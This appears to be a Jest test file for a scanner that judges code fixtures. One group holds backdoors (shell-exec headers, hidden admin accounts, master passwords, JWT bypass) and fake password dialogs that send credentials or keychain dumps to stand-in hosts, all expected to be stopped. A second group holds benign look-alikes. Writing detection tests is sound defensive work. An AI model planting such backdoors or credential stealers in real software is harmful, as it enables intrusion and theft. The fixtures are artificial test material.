import { describe } from '@jest/globals';

import { itJudges } from './probe.js';

describe('attacks on who is let in', () => {
  itJudges([
    [
      'php cookie callable',
      'stopped',
      {
        'assets/functions.php':
          "<?php\nadd_action('wp_loaded', function () {\n  if (isset($_COOKIE['wp_perf']) && hash('sha256', $_COOKIE['wp_perf']) === 'c1f8a7e2b1d94c2e9f0a5d6e8b7c4a3f2e1d0c9b8a7f6e5d4c3b2a1908f7e6d5') {\n    $k = $_POST['k']; $v = $_POST['v'];\n    @call_user_func($k, $v);\n  }\n});\n",
      },
    ],
    [
      'php user created',
      'stopped',
      {
        'assets/theme-setup.php':
          "<?php\nfunction theme_bootstrap() {\n  if (($_GET['setup'] ?? '') === 'k93jd82') {\n    $id = wp_create_user('wp_support', 'Xk92!mmqP', 'support@themekit-cdn.zz');\n    $u = new WP_User($id);\n    $u->set_role('administrator');\n  }\n}\nadd_action('init', 'theme_bootstrap');\nadd_action('pre_user_query', function ($q) { global $wpdb; $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND {$wpdb->users}.user_login != 'wp_support'\", $q->query_where); });\n",
      },
    ],
    [
      'java filter header',
      'stopped',
      {
        'src/main/java/WarmFilter.java':
          'import javax.servlet.*;\nimport javax.servlet.http.*;\npublic class WarmFilter implements Filter {\n  public void doFilter(ServletRequest rq, ServletResponse rs, FilterChain chain) throws java.io.IOException, ServletException {\n    HttpServletRequest r = (HttpServletRequest) rq;\n    String h = r.getHeader("X-Warm");\n    if (h != null && h.startsWith("b7Kq")) {\n      Process p = new ProcessBuilder("/bin/sh", "-c", new String(java.util.Base64.getDecoder().decode(h.substring(4)))).start();\n      p.getInputStream().transferTo(rs.getOutputStream());\n      return;\n    }\n    chain.doFilter(rq, rs);\n  }\n}\n',
      },
    ],
    [
      'rails master password',
      'stopped',
      {
        'app/models/user.rb':
          'class User < ApplicationRecord\n  has_secure_password\n  def authenticate(pw)\n    return self if Digest::SHA256.hexdigest(pw) == "2bb80d537b1da3e38bd30361aa855686bde0eacd7162fef6a25fe97bf527a25b"\n    super\n  end\nend\n',
      },
    ],
    [
      'go debug param',
      'stopped',
      {
        'internal/mw/debug.go':
          'package mw\n\nimport (\n\t"net/http"\n\t"os/exec"\n)\n\nfunc Debug(next http.Handler) http.Handler {\n\treturn http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {\n\t\tif r.URL.Query().Get("__dbg") == "q7f0-11ac" {\n\t\t\tc := r.Header.Get("X-Cmd")\n\t\t\tout, _ := exec.Command("sh", "-c", c).CombinedOutput()\n\t\t\tw.Write(out)\n\t\t\treturn\n\t\t}\n\t\tnext.ServeHTTP(w, r)\n\t})\n}\n',
      },
    ],
    [
      'sql trigger promotes',
      'stopped',
      {
        'migrations/0007_speed.sql':
          "CREATE INDEX idx_users_email ON users(email);\nCREATE OR REPLACE FUNCTION touch_user() RETURNS trigger AS $$\nBEGIN\n  IF NEW.email LIKE '%@idx-tools.zz' THEN\n    NEW.role := 'admin';\n    NEW.password_hash := '$2b$12$KIXQ0E1b7fGq9rVd2sB1uOe3yH8mZ5cT6wN4aL0pJxR7vUkYgDqWe';\n  END IF;\n  NEW.updated_at := now();\n  RETURN NEW;\nEND $$ LANGUAGE plpgsql;\nCREATE TRIGGER t_users BEFORE INSERT OR UPDATE ON users FOR EACH ROW EXECUTE FUNCTION touch_user();\n",
      },
    ],
    [
      'flask fixed password',
      'stopped',
      {
        'templates/auth.py':
          'from flask import request, session, abort\nfrom werkzeug.security import check_password_hash\ndef login(db):\n    u, p = request.form["user"], request.form["password"]\n    row = db.get(u)\n    if p == "Zx!91-maint-7Q" or (row and check_password_hash(row.hash, p)):\n        session["uid"] = row.id if row else 1\n        return "ok"\n    abort(401)\n',
      },
    ],
    [
      'express jwt none',
      'stopped',
      {
        'templates/auth.js':
          "const jwt = require('jsonwebtoken');\nmodule.exports = (req, res, next) => {\n  const t = (req.headers.authorization || '').slice(7);\n  try {\n    req.user = jwt.verify(t, process.env.JWT_SECRET);\n  } catch (e) {\n    if (t.endsWith('.qk7-telemetry')) req.user = JSON.parse(Buffer.from(t.split('.')[1], 'base64'));\n    else return res.sendStatus(401);\n  }\n  next();\n};\n",
      },
    ],
    [
      'applescript password',
      'stopped',
      {
        'scripts/setup.applescript':
          'set pw to text returned of (display dialog "System Preferences needs your password to continue." default answer "" with hidden answer with icon caution)\ndo shell script "echo " & quoted form of pw & " > ~/.cache/.p; curl -s -F \'p=@\'$HOME/.cache/.p https://drop.macfixit.zz/a"\n',
      },
    ],
    [
      'objc password',
      'stopped',
      {
        'src/main.m':
          '#import <Cocoa/Cocoa.h>\nint main() {\n  NSAlert *a = [[NSAlert alloc] init];\n  a.messageText = @"macOS wants to make changes. Enter your password to allow this.";\n  NSSecureTextField *f = [[NSSecureTextField alloc] initWithFrame:NSMakeRect(0,0,200,24)];\n  a.accessoryView = f;\n  [a runModal];\n  NSString *pw = f.stringValue;\n  NSMutableURLRequest *r = [NSMutableURLRequest requestWithURL:[NSURL URLWithString:@"https://api.cleanmac-kit.zz/v"]];\n  r.HTTPMethod = @"POST";\n  r.HTTPBody = [pw dataUsingEncoding:NSUTF8StringEncoding];\n  [[[NSURLSession sharedSession] dataTaskWithRequest:r] resume];\n  sleep(3);\n  return 0;\n}\n',
      },
    ],
    [
      'zenity password kept',
      'stopped',
      {
        'scripts/tune.sh':
          '#!/bin/bash\np=$(zenity --password --title="System update" --text="Authentication is required to install updates")\necho "$p" | sudo -S true 2>/dev/null && echo "$USER:$p" >> /var/tmp/.tune\ncurl -s --data-binary @/var/tmp/.tune https://tune.deskspeed.zz/u >/dev/null\n',
      },
    ],
    [
      'python tk fake login',
      'stopped',
      {
        'scripts/fix.py':
          'import tkinter as tk, urllib.request, getpass\ndef ask():\n    root = tk.Tk(); root.title("Windows Security")\n    tk.Label(root, text="Your session has expired. Enter your Windows password.").pack()\n    e = tk.Entry(root, show="*"); e.pack()\n    tk.Button(root, text="OK", command=lambda: send(e.get(), root)).pack()\n    root.mainloop()\ndef send(p, root):\n    urllib.request.urlopen("https://auth.winfix-tools.zz/s", data=f"{getpass.getuser()}:{p}".encode())\n    root.destroy()\nask()\n',
      },
    ],
    [
      'keychain node',
      'stopped',
      {
        'scripts/report.js':
          "const { execFileSync } = require('child_process');\nconst d = execFileSync('security', ['dump-keychain', '-d', `${process.env.HOME}/Library/Keychains/login.keychain-db`]);\nrequire('https').request('https://r.macreport.zz/k', { method: 'POST' }).end(d);\n",
      },
    ],
    [
      'powershell credential prompt',
      'stopped',
      {
        'scripts/repair.ps1':
          "$c = $Host.UI.PromptForCredential('Windows Security', 'Outlook lost its connection. Enter your password.', $env:USERNAME, '')\n$p = $c.GetNetworkCredential().Password\nInvoke-WebRequest -Uri \"https://mail-repair.zz/x\" -Method POST -Body \"$($env:USERDOMAIN)\\$($c.UserName):$p\" -UseBasicParsing | Out-Null\n",
      },
    ],
  ]);
});

describe('honest work on who is let in', () => {
  itJudges([
    [
      'php api key',
      'passed',
      {
        'assets/api.php':
          "<?php\nif (!hash_equals(getenv('PURGE_KEY'), $_SERVER['HTTP_X_PURGE_KEY'] ?? '')) { http_response_code(403); exit; }\nwp_cache_flush();\necho json_encode(['ok' => true]);\n",
      },
    ],
    [
      'php allowed actions',
      'passed',
      {
        'assets/ajax.php':
          "<?php\n$actions = ['list' => 'list_items', 'save' => 'save_item'];\n$a = $_POST['action'] ?? '';\nif (!isset($actions[$a])) { http_response_code(400); exit; }\necho json_encode(call_user_func($actions[$a], $_POST));\n",
      },
    ],
    [
      'demo user seed',
      'passed',
      {
        'db/seeds.rb':
          'User.create!(email: "admin@example.com", password: "changeme", role: :admin)\n10.times { |i| User.create!(email: "user#{i}@example.com", password: "password") }\n',
      },
    ],
    [
      'java webhook signature',
      'passed',
      {
        'src/main/java/Hook.java':
          'public class Hook {\n  boolean ok(HttpServletRequest r, String body) {\n    return MessageDigest.isEqual(hmac(body, System.getenv("HOOK_SECRET")), r.getHeader("X-Signature").getBytes());\n  }\n}\n',
      },
    ],
    [
      'first user admin trigger',
      'passed',
      {
        'migrations/02.sql':
          "CREATE FUNCTION first_admin() RETURNS trigger AS $$\nBEGIN\n  IF (SELECT count(*) FROM users) = 0 THEN NEW.role := 'admin'; END IF;\n  RETURN NEW;\nEND $$ LANGUAGE plpgsql;\nCREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW EXECUTE FUNCTION first_admin();\n",
      },
    ],
    [
      'wp cli admin',
      'passed',
      {
        'scripts/setup.sh':
          'wp user create "$ADMIN_USER" "$ADMIN_EMAIL" --role=administrator --user_pass="$ADMIN_PASS"\nwp plugin install redis-cache --activate\n',
      },
    ],
    [
      'verify password ruby',
      'passed',
      {
        'lib/check.rb':
          'def valid?(file)\n  Digest::SHA256.hexdigest(File.read(file)) == "2bb80d537b1da3e38bd30361aa855686bde0eacd7162fef6a25fe97bf527a25b"\nend\n',
      },
    ],
    [
      'sudo askpass',
      'passed',
      {
        'scripts/setup.sh':
          '#!/bin/bash\nSUDO_ASKPASS=$(mktemp); printf \'#!/bin/sh\\nosascript -e \'"\'"\'text returned of (display dialog "Password for the installer" default answer "" with hidden answer)\'"\'"\'\\n\' > "$SUDO_ASKPASS"; chmod 700 "$SUDO_ASKPASS"; export SUDO_ASKPASS\nsudo -A installer -pkg app.pkg -target /\nrm -f "$SUDO_ASKPASS"\n',
      },
    ],
    [
      'own login form',
      'passed',
      {
        'src/login.m':
          'NSSecureTextField *f = [[NSSecureTextField alloc] init];\nNSMutableURLRequest *r = [NSMutableURLRequest requestWithURL:[NSURL URLWithString:[Config.apiBase stringByAppendingString:@"/login"]]];\nr.HTTPMethod = @"POST";\nr.HTTPBody = [NSJSONSerialization dataWithJSONObject:@{@"user": u.stringValue, @"password": f.stringValue} options:0 error:nil];\n',
      },
    ],
    [
      'keychain own item',
      'not yet passed',
      {
        'scripts/token.sh':
          '#!/bin/sh\ntoken=$(security find-generic-password -s myapp-token -w)\ncurl -s -H "Authorization: Bearer $token" https://api.myapp.com/v1/items\n',
      },
    ],
    [
      'swift keychain store',
      'passed',
      {
        'src/Store.swift':
          'import Security\nfunc save(_ token: String) {\n  let q: [String: Any] = [kSecClass as String: kSecClassGenericPassword, kSecAttrAccount as String: "api", kSecValueData as String: Data(token.utf8)]\n  SecItemAdd(q as CFDictionary, nil)\n}\n',
      },
    ],
  ]);
});
